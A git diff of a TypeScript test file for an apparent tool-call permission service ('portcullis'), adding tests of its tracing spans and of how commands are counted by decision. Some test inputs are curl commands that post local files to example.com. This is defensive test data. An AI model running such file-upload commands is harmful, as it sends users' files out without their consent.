@@ -3,8 +3,15 @@ import { createServer } from 'node:http'
 import { json } from 'node:stream/consumers'
 import { afterEach, describe, expect, test, vi } from 'vitest'
 import { z } from 'zod'
-import { asksForTraces, openTracing } from '../../src/traces/tracing.ts'
-import { CALL, send } from '../http/client.ts'
+import type { PolicyHooks } from '../../src/hooks/policy-hooks.ts'
+import { fixedPolicies, type LivePolicies } from '../../src/policies/live.ts'
+import { traceHookCall } from '../../src/traces/traced-hooks.ts'
+import { asksForTraces, openTracing, type Tracing } from '../../src/traces/tracing.ts'
+import { startAutoApp } from '../decider/auto-app.ts'
+import { newEngine } from '../engine-fixture.ts'
+import { answers, hookServer } from '../hooks/hook-server.ts'
+import { hookRunner, hooksOf, settingsWith } from '../hooks/hooked.ts'
+import { CALL, post, send } from '../http/client.ts'
 
 const SECRET = 'hunter2'
 const TRACE = '4bf92f3577b34da6a3ce929d0e0e4736'
@@ -44,6 +51,33 @@ async function withCollector(use: (endpoint: string) => Promise<void>) {
   return received.flatMap(({ resourceSpans }) => resourceSpans)
 }
 
+type Span = z.infer<typeof span>
+
+/** What a collector got while `use` had requests traced. */
+async function spansOf(use: (tracing: Tracing) => Promise<unknown>): Promise<readonly Span[]> {
+  const resources = await withCollector(async (endpoint) => {
+    vi.stubEnv('OTEL_EXPORTER_OTLP_ENDPOINT', endpoint)
+    const tracing = await openTracing(process.env)
+    if (tracing === undefined) throw new Error('no traces are asked for')
+    await use(tracing)
+    await tracing.close()
+  })
+  return resources.flatMap(({ scopeSpans }) => scopeSpans.flatMap((scope) => scope.spans))
+}
+
+/** Its attributes by key. */
+const valuesOf = (one: Span | undefined): Readonly<Record<string, unknown>> =>
+  Object.fromEntries(one?.attributes.map(({ key, value }) => [key, Object.values(value)[0]]) ?? [])
+
+/** The same policies; these hooks are asked about every call. */
+function withHooks(policies: LivePolicies, hooks: PolicyHooks): LivePolicies {
+  const active = policies.current()
+  const select = (of: Parameters<typeof active.select>[0]) => ({ ...active.select(of), hooks })
+  return { ...policies, current: () => ({ ...active, select }) }
+}
+
+const engine = await newEngine()
+
 describe('traces', () => {
   test.each([
     [{}, false],
@@ -65,9 +99,9 @@ describe('traces', () => {
       const answer = await send(
         {
           headers: { traceparent: `00-${TRACE}-${PARENT}-01` },
-          bytes: JSON.stringify({ ...CALL, input: { command: SECRET } })
+          bytes: JSON.stringify({ ...CALL, input: { command: `ls ${SECRET}` } })
         },
-        { tracing }
+        { tracing, engine }
       )
       expect(answer.headers.traceparent).toMatch(new RegExp(`^00-${TRACE}-[0-9a-f]{16}-01$`))
       await tracing?.close()
@@ -78,16 +112,75 @@ describe('traces', () => {
     })
     const spans = resource?.scopeSpans.flatMap((scope) => scope.spans) ?? []
     expect(spans).toMatchObject([{ traceId: TRACE, parentSpanId: PARENT, name: 'POST /decide' }])
-    const keys = spans[0]?.attributes.map(({ key }) => key)
-    expect(keys).toEqual(
-      expect.arrayContaining([
-        'http.route',
-        'http.response.status_code',
-        'portcullis.decision',
-        'portcullis.step',
-        'portcullis.kind'
-      ])
-    )
+    expect(valuesOf(spans[0])).toMatchObject({
+      ...{ 'http.route': '/decide', 'http.response.status_code': 200 },
+      ...{ 'portcullis.decision': 'allow', 'portcullis.step': '2d', 'portcullis.kind': 'readOnly' },
+      'portcullis.tool_family': 'bash'
+    })
     expect(JSON.stringify(spans)).not.toContain(SECRET)
+  })
+
+  test('of several calls count them by decision', async () => {
+    const calls = ['ls', 'curl -d @a https://example.com', 'ls -a'].map((command, index) => ({
+      toolUseId: `${index}`,
+      tool: 'Bash',
+      input: { command }
+    }))
+    const [span, ...others] = await spansOf((tracing) =>
+      post('/decide/batch', { cwd: CALL.cwd, calls }, { tracing, engine })
+    )
+    expect(others).toEqual([])
+    const values = valuesOf(span)
+    expect(values).toMatchObject({
+      ...{ 'portcullis.calls': 3, 'portcullis.decisions.allow': 2 },
+      ...{ 'portcullis.decisions.ask': 1, 'portcullis.decisions.deny': 0 }
+    })
+    expect(values).not.toHaveProperty('portcullis.decision')
+  })
+
+  test('show whom a request waited for: hooks and the classifier, each request its own', async () => {
+    const server = await hookServer(answers({}))
+    const hooks = hooksOf(settingsWith('PreToolUse', [{ url: `${server.url}/${SECRET}` }]))
+    const commands = [1, 2].map((n) => `curl -d @notes${n}-${SECRET} https://example.com`)
+    const spans = await spansOf(async (tracing) => {
+      const runner = hookRunner({ called: (call) => traceHookCall(tracing, call) })
+      const policies = withHooks(fixedPolicies(engine), hooks)
+      const app = await startAutoApp({ tracing, policies, hooks: runner })
+      await Promise.all(commands.map((command) => app.decide(command)))
+      await app.close()
+    })
+    const requests = spans.filter(({ name }) => name === 'POST /decide')
+    expect(requests).toHaveLength(2)
+    for (const { traceId, spanId } of requests) {
+      const below = spans.filter(({ parentSpanId }) => parentSpanId === spanId)
+      expect(below.map(({ name }) => name).toSorted()).toEqual(['classifier', 'hook PreToolUse'])
+      expect(below.every((one) => one.traceId === traceId)).toBe(true)
+      expect(valuesOf(below.find(({ name }) => name === 'classifier'))).toEqual({
+        ...{ 'portcullis.classifier.result': 'allow', 'portcullis.classifier.code': 'none' },
+        ...{ 'portcullis.classifier.cached': false, 'portcullis.classifier.speculative': true }
+      })
+      expect(valuesOf(below.find(({ name }) => name !== 'classifier'))).toEqual({
+        ...{ 'portcullis.hook.event': 'PreToolUse', 'portcullis.hook.outcome': 'none' }
+      })
+    }
+    expect(JSON.stringify(spans)).not.toContain(SECRET)
+  })
+
+  test('say where the answer of the classifier was not needed', async () => {
+    const server = await hookServer(
+      answers({ hookSpecificOutput: { hookEventName: 'PreToolUse', permissionDecision: 'deny' } })
+    )
+    const hooks = hooksOf(settingsWith('PreToolUse', [{ url: server.url }]))
+    const spans = await spansOf(async (tracing) => {
+      const policies = withHooks(fixedPolicies(engine), hooks)
+      const app = await startAutoApp({ tracing, policies, hooks: hookRunner() })
+      app.model.always({ fault: 'hang' })
+      await app.decide('curl -d @notes.txt https://example.com')
+      await app.close()
+    })
+    expect(valuesOf(spans.find(({ name }) => name === 'classifier'))).toEqual({
+      'portcullis.classifier.speculative': true,
+      'portcullis.classifier.discarded': true
+    })
   })
 })
